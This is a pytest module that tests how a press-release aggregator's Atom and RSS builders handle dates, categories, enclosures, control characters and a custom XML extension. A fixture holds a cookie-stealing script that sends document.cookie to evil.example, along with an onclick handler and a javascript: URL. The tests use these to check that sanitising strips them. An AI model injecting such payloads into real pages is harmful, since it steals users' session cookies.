"""The Atom and RSS builders: what feed readers get back out of the bytes."""

from __future__ import annotations

import html
from collections.abc import Callable, Sequence
from datetime import UTC, date, datetime, time, timedelta
from email.utils import parsedate_to_datetime
from zoneinfo import ZoneInfo

import feedparser
import pytest
from lxml import etree

import pressroom
from pressroom.feeds import atom, common, rss
from pressroom.models import Attachment, Entry, FeedMeta, Posting, Release

Builder = Callable[[FeedMeta, Sequence[Entry]], bytes]
BUILDERS: dict[str, Builder] = {"atom": atom.build, "rss": rss.build}
ATOM_NS = "{http://www.w3.org/2005/Atom}"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
BRUSSELS = ZoneInfo("Europe/Brussels")

META = FeedMeta(
    id="https://feeds.coalition.example/all.atom",
    title="Clean Water Coalition — partner releases",
    self_url="https://feeds.coalition.example/all.atom",
    home_url="https://coalition.example/newsroom",
    language="en",
    subtitle="Every press release, statement and advisory from our partners",
)

JOINT = Entry(
    id="urn:uuid:5f0c9a3e-2b71-4c8e-9d6a-0a4f3e1b7c21",
    release=Release(
        url="https://riverfriends.example/presse/2024/declaration-commune-eau",
        title="Déclaration commune : l’accès à l’eau potable est un droit",
        kind="statement",
        language="fr",
        summary="Trois associations demandent un moratoire sur les forages.",
        body_html=(
            "<p>Les associations signataires <strong>demandent</strong> un moratoire.</p>"
            "<script>document.location='https://evil.example/?c='+document.cookie</script>"
            '<p onclick="steal()">Contact presse ci-dessous.</p>'
        ),
        attachments=(
            Attachment(
                url="https://riverfriends.example/media/declaration.pdf",
                title="Déclaration (PDF)",
                media_type="application/pdf",
                length=482113,
            ),
            Attachment(url="https://riverfriends.example/media/photo-riviere.jpg", title="Photo"),
        ),
    ),
    postings=(
        Posting(
            "riverfriends", "Friends of the River", "https://riverfriends.example/presse/2024/declaration-commune-eau"
        ),
        Posting("cleanwater", "Clean Water Coalition", "https://cleanwater.example/news/joint-statement-water-access"),
        Posting("aquaaction", "Aqua Action & Partners", "https://aquaaction.example/actualites/eau-droit"),
    ),
    published=datetime(2024, 3, 6, 10, 15, tzinfo=BRUSSELS),
    updated=datetime(2024, 3, 6, 11, 2, 37, tzinfo=BRUSSELS),
    first_seen=datetime(2024, 3, 6, 9, 30, tzinfo=UTC),
)

# A partner page that gives only a date: the store turns it into midnight in the source's zone.
DATE_ONLY_DAY = date(2024, 3, 4)
DATE_ONLY = Entry(
    id="urn:uuid:9b2d7e14-6a3f-4f0e-8c55-1d2e3f4a5b6c",
    release=Release(
        url="https://cleanwater.example/news/advisory-river-cleanup-day",
        title="Media advisory:\x0b river clean-up day\ufffe on Saturday\x00",
        kind="media_advisory",
        published=DATE_ONLY_DAY,
        summary="Volunteers meet at\x08 the north bank at 9am. Gloves & boots provided; ages <16 with an adult.",
        body_html="<p>Volunteers meet at the north bank.</p>",
        organizations=("Clean Water Coalition", "City Parks Department"),
    ),
    postings=(
        Posting("cleanwater", "Clean Water Coalition", "https://cleanwater.example/news/advisory-river-cleanup-day"),
    ),
    published=datetime.combine(DATE_ONLY_DAY, time(0), tzinfo=BRUSSELS),
    updated=datetime(2024, 3, 4, 16, 45, 12, 250000, tzinfo=UTC),
    first_seen=datetime(2024, 3, 4, 16, 45, 12, tzinfo=UTC),
)
DATE_ONLY_CLEAN_TITLE = "Media advisory: river clean-up day on Saturday"
DATE_ONLY_CLEAN_SUMMARY = "Volunteers meet at the north bank at 9am. Gloves & boots provided; ages <16 with an adult."

PLAIN = Entry(
    id="urn:uuid:0e7a1c55-3d2b-4a90-b1f8-7c6d5e4f3a21",
    release=Release(
        url="https://aquaaction.example/news/annual-report-2023",
        title="Aqua Action publishes its 2023 annual report",
        kind="document_release",
        language="en",
        body_html="<p>The report covers 14 projects in 6 countries.</p>",
    ),
    postings=(Posting("aquaaction", "Aqua Action & Partners", "https://aquaaction.example/news/annual-report-2023"),),
    published=datetime(2024, 2, 28, 14, 0, tzinfo=UTC),
    updated=datetime(2024, 2, 28, 14, 0, tzinfo=UTC),
    first_seen=datetime(2024, 2, 28, 14, 5, tzinfo=UTC),
)

ENTRIES = (JOINT, DATE_ONLY, PLAIN)  # newest first


def parse(data: bytes) -> feedparser.FeedParserDict:
    """Parse like a feedparser-based reader would, insisting the document is clean."""
    parsed = feedparser.parse(data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    return parsed


def body(item: feedparser.FeedParserDict) -> str:
    """An entry's HTML body: Atom <content>, RSS <content:encoded>, or RSS <description> when that is all there is."""
    return item.content[0].value if "content" in item else item.summary


def aware(text: str, fmt: str) -> datetime:
    """A date string from the feed as an aware datetime (RFC 3339 for Atom, RFC 822 for RSS)."""
    return datetime.fromisoformat(text) if fmt == "atom" else parsedate_to_datetime(text)


@pytest.fixture(params=sorted(BUILDERS))
def fmt(request: pytest.FixtureRequest) -> str:
    """Each feed format in turn."""
    return request.param


def test_output_is_pretty_utf8_xml_that_parses(fmt: str) -> None:
    """Both formats are well-formed UTF-8 XML with a declaration and parse without bozo."""
    data = BUILDERS[fmt](META, ENTRIES)
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>\n")
    root = etree.fromstring(data)  # raises on anything not well-formed
    assert root.tag == (f"{ATOM_NS}feed" if fmt == "atom" else "rss")
    assert b"\n  <" in data  # indented, one element a line
    assert "Déclaration commune".encode() in data  # raw UTF-8, not character references
    assert parse(data).version == {"atom": "atom10", "rss": "rss20"}[fmt]


def test_same_input_gives_identical_bytes_and_ids(fmt: str) -> None:
    """Two builds, even from equal but distinct objects, are byte-identical and keep every id."""
    first = BUILDERS[fmt](META, ENTRIES)
    copies = [Entry(e.id, e.release, tuple(e.postings), e.published, e.updated, e.first_seen) for e in ENTRIES]
    second = BUILDERS[fmt](META, copies)
    assert first == second
    assert [x.id for x in parse(first).entries] == [e.id for e in ENTRIES]
    assert [x.id for x in parse(second).entries] == [e.id for e in ENTRIES]


def test_entries_keep_order_titles_and_links(fmt: str) -> None:
    """Entries come out newest first as given, with the shown posting's URL as their link."""
    parsed = parse(BUILDERS[fmt](META, ENTRIES))
    assert [x.title for x in parsed.entries] == [
        JOINT.release.title,
        DATE_ONLY_CLEAN_TITLE,
        PLAIN.release.title,
    ]
    assert [x.link for x in parsed.entries] == [e.release.url for e in ENTRIES]
    # Reversed input stays reversed: the builder never re-sorts.
    reversed_parsed = parse(BUILDERS[fmt](META, ENTRIES[::-1]))
    assert [x.id for x in reversed_parsed.entries] == [e.id for e in ENTRIES[::-1]]


def test_atom_entry_dates_match() -> None:
    """Atom published/updated carry the entry's times, cut to whole seconds."""
    parsed = parse(atom.build(META, ENTRIES))
    for got, entry in zip(parsed.entries, ENTRIES, strict=True):
        assert aware(got.published, "atom") == entry.published
        assert aware(got.updated, "atom") == entry.updated.replace(microsecond=0)
    # The date-only release shows as midnight Brussels time (CET in March), not shifted to UTC.
    assert parsed.entries[1].published == "2024-03-04T00:00:00+01:00"


def test_rss_pubdate_is_rfc822_published() -> None:
    """RSS pubDate is the entry's published time in RFC 822 form."""
    data = rss.build(META, ENTRIES)
    parsed = parse(data)
    for got, entry in zip(parsed.entries, ENTRIES, strict=True):
        assert parsedate_to_datetime(got.published) == entry.published
    assert parsed.entries[1].published == "Mon, 04 Mar 2024 00:00:00 +0100"


def test_feed_updated_is_newest_entry_update(fmt: str) -> None:
    """The feed's own updated time is the newest entry's updated, not the build time."""
    data = BUILDERS[fmt](META, ENTRIES)
    parsed = parse(data)
    assert aware(parsed.feed.updated, fmt) == JOINT.updated
    if fmt == "rss":
        channel = etree.fromstring(data).find("channel")
        assert parsedate_to_datetime(channel.findtext("pubDate")) == JOINT.updated
        assert channel.findtext("lastBuildDate") == "Wed, 06 Mar 2024 11:02:37 +0100"


def test_feed_updated_counts_later_edits_of_older_entries(fmt: str) -> None:
    """An older release edited after the newest one moves the feed's updated time to that edit."""
    edited_late = Entry(
        PLAIN.id,
        PLAIN.release,
        PLAIN.postings,
        PLAIN.published,
        datetime(2024, 3, 7, 8, 0, tzinfo=UTC),
        PLAIN.first_seen,
    )
    parsed = parse(BUILDERS[fmt](META, [JOINT, edited_late]))
    assert aware(parsed.feed.updated, fmt) == datetime(2024, 3, 7, 8, 0, tzinfo=UTC)


def test_empty_feed_uses_the_epoch(fmt: str) -> None:
    """An empty feed is valid, reproducible, and dated 1970-01-01T00:00:00Z."""
    data = BUILDERS[fmt](META, [])
    assert data == BUILDERS[fmt](META, [])
    parsed = parse(data)
    assert parsed.entries == []
    assert aware(parsed.feed.updated, fmt) == datetime(1970, 1, 1, tzinfo=UTC)


def test_feed_metadata(fmt: str) -> None:
    """Title, description, self and home links, language and generator are all there."""
    data = BUILDERS[fmt](META, ENTRIES)
    feed = parse(data).feed
    assert feed.title == META.title
    assert feed.subtitle == META.subtitle
    assert feed.language == "en"
    links = {link.rel: link.href for link in feed.links}
    assert links == {"self": META.self_url, "alternate": META.home_url}
    assert feed.link == META.home_url
    if fmt == "atom":
        assert feed.id == META.id
        assert feed.generator_detail == {
            "name": "pressroom",
            "version": pressroom.__version__,
            "href": pressroom.HOME_PAGE,
        }
    else:
        assert feed.generator == f"pressroom {pressroom.__version__} ({pressroom.HOME_PAGE})"


def test_description_falls_back_when_there_is_no_subtitle(fmt: str) -> None:
    """RSS requires a channel description, so a feed without subtitle still gets one."""
    bare = FeedMeta(META.id, "Friends of the River", META.self_url, META.home_url, language="fr")
    feed = parse(BUILDERS[fmt](bare, ENTRIES)).feed
    assert feed.subtitle == "Releases from Friends of the River"
    assert feed.language == "fr"


def test_rss_guid_is_not_a_permalink() -> None:
    """RSS guids are the urn:uuid ids, flagged isPermaLink="false"."""
    channel = etree.fromstring(rss.build(META, ENTRIES)).find("channel")
    guids = [(g.text, g.get("isPermaLink")) for g in channel.iter("guid")]
    assert guids == [(e.id, "false") for e in ENTRIES]


def test_categories(fmt: str) -> None:
    """Kind, every posting's source id and the language appear as categories in documented schemes."""
    parsed = parse(BUILDERS[fmt](META, ENTRIES))
    kind, source, language = common.KIND_SCHEME, common.SOURCE_SCHEME, common.LANGUAGE_SCHEME
    expected = [
        [
            (kind, "statement"),
            (source, "riverfriends"),
            (source, "cleanwater"),
            (source, "aquaaction"),
            (language, "fr"),
        ],
        [(kind, "media_advisory"), (source, "cleanwater")],
        [(kind, "document_release"), (source, "aquaaction"), (language, "en")],
    ]
    assert [[(t.scheme, t.term) for t in x.tags] for x in parsed.entries] == expected
    labels = [t.label for t in parsed.entries[0].tags]
    if fmt == "atom":
        assert labels == ["Statement", "Friends of the River", "Clean Water Coalition", "Aqua Action & Partners", None]
    else:
        assert labels == [None] * 5  # RSS <category> has no label slot; the text stays the machine term


def test_enclosures(fmt: str) -> None:
    """Atom lists every attachment; RSS, allowed one enclosure, gets the first."""
    parsed = parse(BUILDERS[fmt](META, ENTRIES))
    pdf = {"href": JOINT.release.attachments[0].url, "type": "application/pdf", "length": "482113"}
    photo = {"href": JOINT.release.attachments[1].url, "type": "application/octet-stream"}
    got = [{k: v for k, v in enc.items() if k in ("href", "type", "length")} for enc in parsed.entries[0].enclosures]
    if fmt == "atom":
        assert got == [pdf, photo]
    else:
        assert got == [pdf]
    assert parsed.entries[1].enclosures == []


def test_rss_enclosure_without_length_says_zero() -> None:
    """RSS requires length and type on <enclosure>; unknown values become 0 and application/octet-stream."""
    only_photo = Release(url=PLAIN.release.url, title="Photo", attachments=(JOINT.release.attachments[1],))
    entry = Entry(PLAIN.id, only_photo, PLAIN.postings, PLAIN.published, PLAIN.updated, PLAIN.first_seen)
    enclosure = etree.fromstring(rss.build(META, [entry])).find("channel/item/enclosure")
    assert dict(enclosure.attrib) == {
        "url": JOINT.release.attachments[1].url,
        "length": "0",
        "type": "application/octet-stream",
    }


def test_atom_entry_links_keep_their_rel() -> None:
    """One alternate, enclosures and related links stay apart (feedgen 1.0 drops link attributes on its own)."""
    entry = etree.fromstring(atom.build(META, ENTRIES)).find(f"{ATOM_NS}entry")
    links = [(link.get("rel"), link.get("href"), link.get("title")) for link in entry.findall(f"{ATOM_NS}link")]
    postings = JOINT.postings
    assert links == [
        ("alternate", JOINT.release.url, None),
        ("enclosure", JOINT.release.attachments[0].url, "Déclaration (PDF)"),
        ("enclosure", JOINT.release.attachments[1].url, "Photo"),
        ("related", postings[1].url, postings[1].source_name),
        ("related", postings[2].url, postings[2].source_name),
    ]


def test_script_never_survives(fmt: str) -> None:
    """A <script> (or event handler) that slipped past upstream sanitising is removed, payload and all."""
    data = BUILDERS[fmt](META, ENTRIES)
    assert b"<script" not in data.lower()
    assert b"&lt;script" not in data.lower()
    assert b"document.cookie" not in data
    assert b"onclick" not in data
    content = body(parse(data).entries[0])
    assert "<strong>demandent</strong>" in content  # harmless markup is kept
    assert "Contact presse ci-dessous." in content


def test_multi_posting_credit_in_content(fmt: str) -> None:
    """An entry several partners posted ends its content with every posting, named and linked."""
    parsed = parse(BUILDERS[fmt](META, ENTRIES))
    content = body(parsed.entries[0])
    rel = 'rel="noopener noreferrer"'  # nh3 marks every link
    assert content.endswith(
        f'<p>Posted by <a href="https://riverfriends.example/presse/2024/declaration-commune-eau" {rel}>'
        "Friends of the River</a>. Also posted by "
        f'<a href="https://cleanwater.example/news/joint-statement-water-access" {rel}>Clean Water Coalition</a> and '
        f'<a href="https://aquaaction.example/actualites/eau-droit" {rel}>Aqua Action &amp; Partners</a>.</p>'
    )
    assert (
        body(parsed.entries[2]) == "<p>The report covers 14 projects in 6 countries.</p>"
    )  # one posting: no credit line


def test_hostile_posting_url_is_not_linked(fmt: str) -> None:
    """The credit paragraph is sanitised like the body: a javascript: posting URL loses its href."""
    hostile = Posting("mallory", "Mallory", "javascript:alert(document.domain)")
    entry = Entry(PLAIN.id, PLAIN.release, (*PLAIN.postings, hostile), PLAIN.published, PLAIN.updated, PLAIN.first_seen)
    content = body(parse(BUILDERS[fmt](META, [entry])).entries[0])
    assert "Also posted by <a" in content
    assert "Mallory" in content
    assert "javascript" not in content


def test_authors(fmt: str) -> None:
    """Authors are the release's organizations when known, else each posting's source name."""
    parsed = parse(BUILDERS[fmt](META, ENTRIES))
    names = [[a.name for a in x.authors] for x in parsed.entries]
    assert names == [
        ["Friends of the River", "Clean Water Coalition", "Aqua Action & Partners"],
        ["Clean Water Coalition", "City Parks Department"],
        ["Aqua Action & Partners"],
    ]


def test_summary_is_plain_text(fmt: str) -> None:
    """The summary reads back as the release's plain text, control characters removed."""
    data = BUILDERS[fmt](META, ENTRIES)
    parsed = parse(data)
    summaries = [x.get("summary") for x in parsed.entries]
    if fmt == "rss":
        # RSS readers treat <description> as HTML, so the text is entity-escaped once; rendering gives it back.
        summaries = [html.unescape(s) if s else s for s in summaries]
    assert summaries[:2] == [JOINT.release.summary, DATE_ONLY_CLEAN_SUMMARY]
    raw = etree.fromstring(data).findall(f"{ATOM_NS}entry" if fmt == "atom" else "channel/item")[1]
    if fmt == "atom":
        assert raw.findtext(f"{ATOM_NS}summary") == DATE_ONLY_CLEAN_SUMMARY
    else:
        assert (
            raw.findtext("description")
            == "Volunteers meet at the north bank at 9am. Gloves &amp; boots provided; ages &lt;16 with an adult."
        )
    # Without a summary there is no empty summary element: RSS <description> holds the body instead.
    item = etree.fromstring(data).findall(f"{ATOM_NS}entry" if fmt == "atom" else "channel/item")[2]
    if fmt == "atom":
        assert item.find(f"{ATOM_NS}summary") is None
    else:
        assert item.findtext("description") == PLAIN.release.body_html
        assert item.find("{http://purl.org/rss/1.0/modules/content/}encoded") is None


def test_entry_language() -> None:
    """Atom entries carry xml:lang and RSS items dc:language when the release's language is known."""
    atom_entries = etree.fromstring(atom.build(META, ENTRIES)).findall(f"{ATOM_NS}entry")
    assert [e.get(XML_LANG) for e in atom_entries] == ["fr", None, "en"]
    parsed = parse(rss.build(META, ENTRIES))
    assert [x.get("language") for x in parsed.entries] == ["fr", None, "en"]


def test_control_characters_are_stripped_from_the_document(fmt: str) -> None:
    """Characters XML 1.0 forbids never reach the bytes, whatever field they came in."""
    data = BUILDERS[fmt](META, ENTRIES)
    for forbidden in (b"\x00", b"\x08", b"\x0b", "\ufffe".encode("utf-8", "surrogatepass")):
        assert forbidden not in data
    assert parse(data).entries[1].title == DATE_ONLY_CLEAN_TITLE


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("tab\tnewline\ncr\r", "tab\tnewline\ncr\r"),
        ("nul\x00bell\x07vt\x0bff\x0cesc\x1b", "nulbellvtffesc"),
        ("non\ufffechar\uffff", "nonchar"),
        ("lone\ud800surrogate\udfff", "lonesurrogate"),
        ("Ünïcødé — ok 🌊", "Ünïcødé — ok 🌊"),
        (None, ""),
    ],
)
def test_xml_text(raw: str | None, clean: str) -> None:
    """xml_text removes exactly what XML 1.0 forbids and keeps everything else."""
    assert common.xml_text(raw) == clean


def test_control_characters_in_feed_metadata(fmt: str) -> None:
    """Forbidden characters in the feed's own fields are stripped too."""
    meta = FeedMeta(META.id, "Coalition\x01 feed", META.self_url, META.home_url, subtitle="Sub\x1ftitle")
    feed = parse(BUILDERS[fmt](meta, [])).feed
    assert (feed.title, feed.subtitle) == ("Coalition feed", "Subtitle")


def test_naive_datetimes_are_refused(fmt: str) -> None:
    """A naive datetime is a caller bug and fails loudly instead of being guessed at."""
    naive = Entry(
        PLAIN.id, PLAIN.release, PLAIN.postings, datetime(2024, 2, 28, 14, 0), PLAIN.updated, PLAIN.first_seen
    )
    with pytest.raises(ValueError, match="aware"):
        BUILDERS[fmt](META, [naive])


def test_times_keep_their_offset_and_drop_fractions() -> None:
    """Atom shows each time in its own offset to the second, the form RFC 3339 readers expect."""
    later = datetime(2024, 3, 6, 11, 2, 37, 999999, tzinfo=UTC) + timedelta(0)
    entry = Entry(PLAIN.id, PLAIN.release, PLAIN.postings, PLAIN.published, later, PLAIN.first_seen)
    root = etree.fromstring(atom.build(META, [entry]))
    assert root.findtext(f"{ATOM_NS}updated") == "2024-03-06T11:02:37+00:00"
    assert root.findtext(f"{ATOM_NS}entry/{ATOM_NS}updated") == "2024-03-06T11:02:37+00:00"


# -- the pressroom extension in Atom ---------------------------------------------------------------------------------

PR = "{https://github.com/pressroom-news/pressroom/ns/1.0}"


def extension_entries() -> tuple[Entry, ...]:
    """The event-rich entries of the calendar tests, with one of this module's plain ones."""
    from test_ical import ADVISORY, WINTER  # imported late: test_ical is a sibling test module, not a package

    return (WINTER, ADVISORY, PLAIN)


def pressroom_children(entry: etree._Element) -> list[tuple[str, dict[str, str], str | None]]:
    """(local name, attributes, text) of each pressroom element directly inside an Atom entry; indentation is None."""
    return [
        (child.tag.removeprefix(PR), dict(child.attrib), (child.text or "").strip() or None)
        for child in entry
        if isinstance(child.tag, str) and child.tag.startswith(PR)
    ]


def test_atom_extension_keeps_the_feed_valid() -> None:
    """With every kind of pressroom element inside, the Atom feed still parses cleanly and says the same."""
    data = atom.build(META, extension_entries())
    parsed = parse(data)
    assert parsed.version == "atom10"
    assert [x.id for x in parsed.entries] == [e.id for e in extension_entries()]
    assert [x.title for x in parsed.entries] == [e.release.title for e in extension_entries()]
    # Declared once, on the root, with its documented prefix; never re-declared per element.
    assert data.count(b'xmlns:pressroom="https://github.com/pressroom-news/pressroom/ns/1.0"') == 1
    assert etree.fromstring(data).nsmap["pressroom"] == PR[1:-1]


def test_atom_extension_elements() -> None:
    """Kind, dateline, organizations, quotes, contacts, events and sources appear with exact attribute values."""
    root = etree.fromstring(atom.build(META, extension_entries()))
    advisory = root.findall(f"{ATOM_NS}entry")[1]
    press_officer = {
        "name": "Maria López",
        "email": "maria.lopez@cleanwater.example",
        "phone": "+14155550123",
        "extension": "12",
        "role": "Press officer",
        "organization": "Clean Water Coalition",
    }
    event = {
        "start": "2014-07-10T14:00:00-07:00",
        "end": "2014-07-10T15:30:00-07:00",
        "all-day": "false",
        "location": "Crissy Field Center, 1199 East Beach, San Francisco, CA",
    }
    assert pressroom_children(advisory) == [
        ("kind", {}, "media_advisory"),
        ("dateline", {"place": "SAN FRANCISCO", "date": "2014-07-08"}, None),
        ("organization", {}, "Clean Water Coalition"),
        ("organization", {}, "Friends of the River"),
        (
            "quote",
            {"speaker": "Dana Whitfield", "role": "Executive director", "organization": "Clean Water Coalition"},
            "Every family deserves water they can trust.",
        ),
        ("quote", {"speaker": "Luis Ortega", "partial": "true"}, "a turning point for the Bay"),
        ("contact", press_officer, None),
        ("event", event, None),
        (
            "event",
            {
                "start": "2014-07-11",
                "end": "2014-07-13",
                "all-day": "true",
                "location": "Oakland Marriott City Center, Oakland, CA",
            },
            None,
        ),
        ("event", {"all-day": "false", "location": "Various"}, None),
        (
            "source",
            {
                "id": "cleanwater",
                "name": "Clean Water Coalition",
                "href": "https://cleanwater.example/news/2014/advisory-bay-water-report",
            },
            None,
        ),
        (
            "source",
            {
                "id": "riverfriends",
                "name": "Friends of the River",
                "href": "https://riverfriends.example/news/bay-water-report-advisory",
            },
            None,
        ),
    ]
    conference = advisory.find(f"{PR}event")
    assert conference.findtext(f"{PR}title") == "Press conference: Bay water quality report"
    assert conference.findtext(f"{PR}description") == (
        "Speakers present the 2014 findings; Q&A follows.\nInterviews available on request."
    )
    assert [dict(c.attrib) for c in conference.findall(f"{PR}contact")] == [
        press_officer,
        {"name": "Sam Okafor", "phone": "+14155550188"},
    ]
    # The Atom elements come after the standard ones, so Atom-only readers see the usual entry first.
    tags = [child.tag for child in advisory]
    assert tags.index(f"{PR}kind") > max(i for i, tag in enumerate(tags) if tag.startswith(ATOM_NS))


def test_atom_extension_for_a_plain_release() -> None:
    """A release without structured facts gets only its kind and its sources."""
    root = etree.fromstring(atom.build(META, extension_entries()))
    plain = root.findall(f"{ATOM_NS}entry")[2]
    assert pressroom_children(plain) == [
        ("kind", {}, "document_release"),
        ("source", {"id": "aquaaction", "name": "Aqua Action & Partners", "href": PLAIN.release.url}, None),
    ]


def test_atom_extension_strips_forbidden_characters() -> None:
    """Control characters in the facts are removed before lxml sees them."""
    from pressroom.models import Quote

    noisy = Release(
        url=PLAIN.release.url,
        title="Noisy",
        organizations=("Clean\x00 Water",),
        quotes=(Quote(text="Water\x0b for all", speaker="Dana\ufffe"),),
    )
    entry = Entry(PLAIN.id, noisy, PLAIN.postings, PLAIN.published, PLAIN.updated, PLAIN.first_seen)
    data = atom.build(META, [entry])
    parse(data)
    found = etree.fromstring(data).find(f"{ATOM_NS}entry")
    assert found.findtext(f"{PR}organization") == "Clean Water"
    assert (found.find(f"{PR}quote").text, found.find(f"{PR}quote").get("speaker")) == ("Water for all", "Dana")


def test_rss_has_no_pressroom_elements() -> None:
    """RSS is unchanged by the extension."""
    data = rss.build(META, extension_entries())
    assert b"pressroom/ns/1.0" not in data
    parse(data)
